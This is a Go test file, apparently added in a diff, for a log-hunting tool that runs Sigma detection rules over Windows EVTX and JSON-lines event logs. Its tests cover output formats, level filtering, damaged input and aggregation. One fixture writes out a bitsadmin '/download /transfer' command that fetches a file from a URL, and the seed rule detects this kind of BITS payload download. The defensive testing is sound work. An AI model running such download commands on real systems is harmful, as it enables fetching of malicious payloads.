@@ -1,0 +1,198 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"runtime"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/ruledex/ruledex/internal/corpustest"
+)
+
+// hunt runs the hunt command in-process with the corpus as --data.
+func hunt(t *testing.T, args []string, o huntOptions) (stdout, stderr string, err error) {
+	t.Helper()
+	prev := globals.data
+	globals.data = corpustest.Dir(t)
+	defer func() { globals.data = prev }()
+	if o.workers == 0 {
+		o.workers = runtime.GOMAXPROCS(0)
+	}
+	var out, errb bytes.Buffer
+	err = runHunt(&out, &errb, args, o)
+	return out.String(), errb.String(), err
+}
+
+func seedRulePath(t *testing.T) string {
+	return corpustest.Path(t, "sigma", "mdecrevoisier", "windows-bits", "win-os-BITS abuse for payload download (command).yaml")
+}
+
+func seedEVTX(t *testing.T) string {
+	return corpustest.Path(t, "evtx", "mdecrevoisier", "TA0003-Persistence", "T1197-BITS jobs", "ID4688-BITS transfer initiated.evtx")
+}
+
+func jsonRecords(t *testing.T, out string) []map[string]any {
+	t.Helper()
+	var recs []map[string]any
+	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
+		if line == "" {
+			continue
+		}
+		var m map[string]any
+		if err := json.Unmarshal([]byte(line), &m); err != nil {
+			t.Fatalf("not a JSON object per line: %q: %v", line, err)
+		}
+		recs = append(recs, m)
+	}
+	return recs
+}
+
+func TestHuntSeedJSON(t *testing.T) {
+	out, stderr, err := hunt(t, []string{seedEVTX(t)}, huntOptions{rules: []string{seedRulePath(t)}, json: true})
+	if err != nil {
+		t.Fatalf("hunt: %v\n%s", err, stderr)
+	}
+	recs := jsonRecords(t, out)
+	if len(recs) != 1 {
+		t.Fatalf("%d records, want 1:\n%s", len(recs), out)
+	}
+	r := recs[0]
+	var keys []string
+	for k := range r {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	if got := strings.Join(keys, ","); got != "channel,computer,event_id,fields,file,level,rule_id,time,title" {
+		t.Errorf("keys %s", got)
+	}
+	if r["title"] != "BITS payload downloaded via commandline" || r["level"] != "medium" || r["channel"] != "Security" ||
+		r["event_id"] != float64(4688) || r["computer"] != "jump01.offsec.lan" || !strings.HasPrefix(r["time"].(string), "2021-02-22T23:07:20") {
+		t.Errorf("record %v", r)
+	}
+	fields, _ := r["fields"].(map[string]any)
+	if !strings.HasSuffix(strings.ToLower(fields["NewProcessName"].(string)), `\bitsadmin.exe`) ||
+		!strings.Contains(fields["CommandLine"].(string), "/transfer") {
+		t.Errorf("fields %v", fields)
+	}
+	if !strings.Contains(stderr, "1 file, 2 events, 1 match") || !strings.Contains(stderr, "rules: 1 loaded, 0 skipped") {
+		t.Errorf("summary:\n%s", stderr)
+	}
+}
+
+func TestHuntJSONLinesAndCSV(t *testing.T) {
+	dir := t.TempDir()
+	lines := `{"EventID":4688,"NewProcessName":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":"bitsadmin /download /transfer j http://x/y c:\\y"}
+{"EventID":4688,"NewProcessName":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd /c dir"}
+`
+	p := filepath.Join(dir, "events.jsonl")
+	if err := os.WriteFile(p, []byte(lines), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out, stderr, err := hunt(t, []string{p}, huntOptions{rules: []string{seedRulePath(t)}, csv: true})
+	if err != nil {
+		t.Fatalf("hunt: %v\n%s", err, stderr)
+	}
+	rows := strings.Split(strings.TrimSpace(out), "\n")
+	if len(rows) != 2 || rows[0] != "rule_id,title,level,time,computer,channel,event_id,file,fields" {
+		t.Fatalf("csv:\n%s", out)
+	}
+	if !strings.Contains(rows[1], "BITS payload downloaded via commandline,medium,") || !strings.Contains(rows[1], ",4688,") {
+		t.Errorf("row %q", rows[1])
+	}
+}
+
+func TestHuntMinLevel(t *testing.T) {
+	_, stderr, err := hunt(t, []string{seedEVTX(t)}, huntOptions{rules: []string{seedRulePath(t)}, json: true, minLevel: "high"})
+	// The medium seed rule is filtered out, so nothing is loaded: that is a failure to report.
+	if err == nil || !strings.Contains(stderr, "rules: 0 loaded") {
+		t.Errorf("err %v, stderr:\n%s", err, stderr)
+	}
+	out, _, err := hunt(t, []string{seedEVTX(t)}, huntOptions{rules: []string{seedRulePath(t)}, json: true, minLevel: "medium"})
+	if err != nil || len(jsonRecords(t, out)) != 1 {
+		t.Errorf("min-level medium: err %v, out %s", err, out)
+	}
+}
+
+// A damaged EVTX gives a located error; the other inputs are still hunted and the exit
+// status stays 0. A missing input makes the status 1, after hunting the rest.
+func TestHuntBadInput(t *testing.T) {
+	data, err := os.ReadFile(seedEVTX(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	bad := append([]byte(nil), data...)
+	// Overwrite the middle of the first chunk's records.
+	for i := 4096 + 600; i < 4096+900; i++ {
+		bad[i] = 0xA5
+	}
+	badPath := filepath.Join(dir, "damaged.evtx")
+	if err := os.WriteFile(badPath, bad, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	truncPath := filepath.Join(dir, "truncated.evtx")
+	if err := os.WriteFile(truncPath, data[:4096+700], 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out, stderr, err := hunt(t, []string{badPath, truncPath, seedEVTX(t)}, huntOptions{rules: []string{seedRulePath(t)}, json: true})
+	if err != nil {
+		t.Fatalf("damaged inputs should not fail the hunt: %v\n%s", err, stderr)
+	}
+	if !strings.Contains(stderr, "damaged.evtx") || !strings.Contains(stderr, "truncated.evtx") {
+		t.Errorf("no located errors for the damaged files:\n%s", stderr)
+	}
+	if n := len(jsonRecords(t, out)); n < 1 {
+		t.Errorf("the intact file's match is missing:\n%s", out)
+	}
+	_, stderr, err = hunt(t, []string{filepath.Join(dir, "missing.evtx"), seedEVTX(t)}, huntOptions{rules: []string{seedRulePath(t)}, json: true})
+	var ee *exitError
+	if !errors.As(err, &ee) || ee.code != exitFailure || !strings.Contains(stderr, "1 match") {
+		t.Errorf("missing input: err %v, stderr:\n%s", err, stderr)
+	}
+}
+
+func TestHuntAggregation(t *testing.T) {
+	dir := t.TempDir()
+	ruleText := `title: Many processes on one host
+id: 22222222-2222-2222-2222-222222222222
+level: high
+logsource:
+  product: windows
+  category: process_creation
+detection:
+  sel:
+    Image|endswith: '.exe'
+  timeframe: 5m
+  condition: sel | count() by Computer > 2
+`
+	rp := filepath.Join(dir, "agg.yml")
+	if err := os.WriteFile(rp, []byte(ruleText), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	for i, host := range []string{"pc1", "pc2", "pc1", "pc1"} {
+		b.WriteString(`{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\x.exe","Computer":"` + host +
+			`","TimeCreated":"2024-05-01T10:00:0` + string(rune('0'+i)) + `Z"}` + "\n")
+	}
+	ep := filepath.Join(dir, "ev.jsonl")
+	if err := os.WriteFile(ep, []byte(b.String()), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out, stderr, err := hunt(t, []string{ep}, huntOptions{rules: []string{rp}, json: true})
+	if err != nil {
+		t.Fatalf("hunt: %v\n%s", err, stderr)
+	}
+	recs := jsonRecords(t, out)
+	if len(recs) != 1 {
+		t.Fatalf("want one aggregation alert (base matches suppressed), got:\n%s", out)
+	}
+	f := recs[0]["fields"].(map[string]any)
+	if recs[0]["computer"] != "pc1" || f["count"] != "3" {
+		t.Errorf("alert %v", recs[0])
+	}
+}
